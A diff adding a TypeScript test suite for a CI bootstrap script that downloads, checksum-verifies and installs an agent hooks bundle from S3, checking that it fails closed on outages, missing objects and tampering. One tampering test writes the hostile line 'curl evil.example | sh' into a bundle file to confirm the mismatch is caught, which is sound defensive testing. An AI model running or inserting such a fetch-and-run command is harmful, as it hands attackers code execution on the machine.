@@ -1,0 +1,180 @@
+/**
+ * bootstrap.sh, rendered by renderBootstrapScript from the bundle that buildHooksBundle builds,
+ * fetched from a real S3 server and piped to bash the way the Elastic CI Stack runs it.
+ */
+import assert from "node:assert/strict";
+import * as fs from "node:fs";
+import * as path from "node:path";
+import { after, before, describe, it } from "node:test";
+import { FLEET_SETTINGS_NAME, MANIFEST_NAME, sha256Hex } from "../../components/hooks/bundle";
+import {
+    AGENT_CONFIG,
+    closedPort,
+    lastLine,
+    Machine,
+    REGION,
+    runBash,
+    S3Fixture,
+    SENTINEL,
+    snapshotTree,
+    uploadBundle,
+    type RunResult,
+} from "./harness";
+
+function assertNoSecret(result: RunResult): void {
+    assert.ok(!result.stdout.includes(SENTINEL), "stdout leaks the secret");
+    assert.ok(!result.stderr.includes(SENTINEL), "stderr leaks the secret");
+}
+
+function assertNothingInstalled(machine: Machine): void {
+    assert.equal(fs.existsSync(machine.hooksDir), false, "hooks were switched in");
+    assert.deepEqual(
+        fs.readdirSync(path.join(machine.installRoot, "releases")),
+        [],
+        "a release or staging dir is left",
+    );
+    assert.equal(fs.readFileSync(machine.agentConfig, "utf8"), AGENT_CONFIG, "agent config changed");
+}
+
+describe("bootstrap.sh", { timeout: 120_000 }, () => {
+    let s3: S3Fixture;
+    const machines: Machine[] = [];
+    const machine = (): Machine => {
+        const m = new Machine();
+        machines.push(m);
+        return m;
+    };
+
+    before(async () => {
+        s3 = await S3Fixture.start();
+    });
+    after(async () => {
+        await s3.stop();
+        machines.forEach((m) => m.remove());
+    });
+
+    it("installs every bundle file, verified, and adds our hooks path once; a second run changes nothing", async () => {
+        const { bundle, bootstrap } = await uploadBundle(s3, "good");
+        const m = machine();
+        const first = await m.bootstrap(s3, "good", bootstrap.key);
+        assert.equal(first.stderr, "");
+        assert.equal(first.code, 0);
+        assertNoSecret(first);
+
+        const link = fs.readlinkSync(m.hooksDir);
+        assert.match(link, new RegExp(`^releases/${bundle.hash.slice(0, 16)}-[0-9a-f]{16}$`));
+        for (const file of bundle.files) {
+            const installed = path.join(m.hooksDir, file.path);
+            assert.equal(fs.readFileSync(installed, "utf8"), file.content, file.path);
+            assert.equal(fs.statSync(installed).mode & 0o777, file.mode, `mode of ${file.path}`);
+        }
+        assert.equal(fs.readFileSync(path.join(m.hooksDir, MANIFEST_NAME), "utf8"), bundle.manifest);
+        assert.equal(
+            fs.readFileSync(path.join(m.hooksDir, FLEET_SETTINGS_NAME), "utf8"),
+            [
+                "CI_PLATFORM_FLEET=linux-us-east-1",
+                "CI_PLATFORM_REGION=us-east-1",
+                "CI_PLATFORM_QUEUE=default",
+                "CI_PLATFORM_ECR_REGISTRY=123456789012.dkr.ecr.us-east-1.amazonaws.com",
+                `CI_PLATFORM_BUNDLE_HASH=${bundle.hash}`,
+                "CI_PLATFORM_AGENTS_PER_INSTANCE=1",
+                "CI_PLATFORM_MIN_FREE_DISK_GB=10",
+                "CI_PLATFORM_PRUNE_ABOVE_PERCENT=80",
+                "",
+            ].join("\n"),
+        );
+        assert.equal(
+            fs.readFileSync(m.agentConfig, "utf8"),
+            `${AGENT_CONFIG}additional-hooks-paths="${m.hooksDir}"\n`,
+            "the stack's hooks-path stays, ours is added once",
+        );
+        assert.equal(fs.statSync(m.agentConfig).mode & 0o777, 0o600, "the agent config keeps its mode");
+
+        const before = snapshotTree(m.root);
+        const second = await m.bootstrap(s3, "good", bootstrap.key);
+        assert.equal(second.code, 0);
+        assert.equal(lastLine(second.stdout), `Hooks already installed at ${m.hooksDir}`);
+        assertNoSecret(second);
+        assert.deepEqual(snapshotTree(m.root), before, "a second run changed the machine");
+    });
+
+    it("keeps another additional-hooks-paths entry and appends ours to it", async () => {
+        const { bootstrap } = await uploadBundle(s3, "good");
+        const m = machine();
+        fs.appendFileSync(m.agentConfig, 'additional-hooks-paths="/opt/other/hooks"\n');
+        const result = await m.bootstrap(s3, "good", bootstrap.key);
+        assert.equal(result.code, 0, result.stderr);
+        assert.equal(
+            fs.readFileSync(m.agentConfig, "utf8"),
+            `${AGENT_CONFIG}additional-hooks-paths="/opt/other/hooks,${m.hooksDir}"\n`,
+        );
+    });
+
+    it("fails closed when S3 is unreachable", async () => {
+        const { bundle, bootstrap } = await uploadBundle(s3, "down");
+        const m = machine();
+        const script = await s3.get("down", bootstrap.key);
+        const endpoint = `http://127.0.0.1:${await closedPort()}`;
+        const result = await runBash([], m.env({ AWS_ENDPOINT_URL: endpoint, AWS_MAX_ATTEMPTS: "1" }), script);
+        assert.equal(result.code, 1);
+        assert.equal(
+            lastLine(result.stderr),
+            `ci-platform: bootstrap failed: cannot read s3://down/hooks/${bundle.hash}/${MANIFEST_NAME}: ` +
+                `S3 in ${REGION} did not answer (see the aws error above)`,
+        );
+        assertNoSecret(result);
+        assertNothingInstalled(m);
+    });
+
+    it("fails closed when an object of the bundle is missing", async () => {
+        const { bundle, bootstrap } = await uploadBundle(s3, "missing");
+        await s3.delete("missing", `${bundle.prefix}environment`);
+        const m = machine();
+        const result = await m.bootstrap(s3, "missing", bootstrap.key);
+        assert.equal(result.code, 1);
+        assert.equal(
+            lastLine(result.stderr),
+            `ci-platform: bootstrap failed: object missing: s3://missing/hooks/${bundle.hash}/environment`,
+        );
+        assertNoSecret(result);
+        assertNothingInstalled(m);
+    });
+
+    it("fails closed when a file does not match the manifest, and leaves the installed hooks alone", async () => {
+        const good = await uploadBundle(s3, "tampered");
+        const m = machine();
+        assert.equal((await m.bootstrap(s3, "tampered", good.bootstrap.key)).code, 0);
+        const installed = snapshotTree(m.root);
+
+        const next = await uploadBundle(s3, "tampered", { allowed: ["learningequality/kolibri"] });
+        const original = next.bundle.files.find((f) => f.path === "environment");
+        assert.ok(original);
+        await s3.put("tampered", `${next.bundle.prefix}environment`, `${original.content}curl evil.example | sh\n`);
+        const result = await m.bootstrap(s3, "tampered", next.bootstrap.key);
+        assert.equal(result.code, 1);
+        const actual = sha256Hex(`${original.content}curl evil.example | sh\n`);
+        assert.equal(
+            lastLine(result.stderr),
+            `ci-platform: bootstrap failed: checksum mismatch: s3://tampered/hooks/${next.bundle.hash}/environment ` +
+                `(expected sha256 ${original.sha256}, got ${actual})`,
+        );
+        assertNoSecret(result);
+        assert.deepEqual(snapshotTree(m.root), installed, "the failed run touched the installed hooks");
+    });
+
+    it("fails closed when the manifest does not hash to the bundle's hash", async () => {
+        const { bundle, bootstrap } = await uploadBundle(s3, "manifest");
+        await s3.put("manifest", `${bundle.prefix}${MANIFEST_NAME}`, bundle.manifest.replace(/^[0-9a-f]{4}/, "0000"));
+        const m = machine();
+        const result = await m.bootstrap(s3, "manifest", bootstrap.key);
+        assert.equal(result.code, 1);
+        assert.match(
+            lastLine(result.stderr),
+            new RegExp(
+                `^ci-platform: bootstrap failed: checksum mismatch: s3://manifest/hooks/${bundle.hash}/SHA256SUMS ` +
+                    `\\(expected sha256 ${bundle.hash}, got [0-9a-f]{64}\\)$`,
+            ),
+        );
+        assertNothingInstalled(m);
+    });
+});
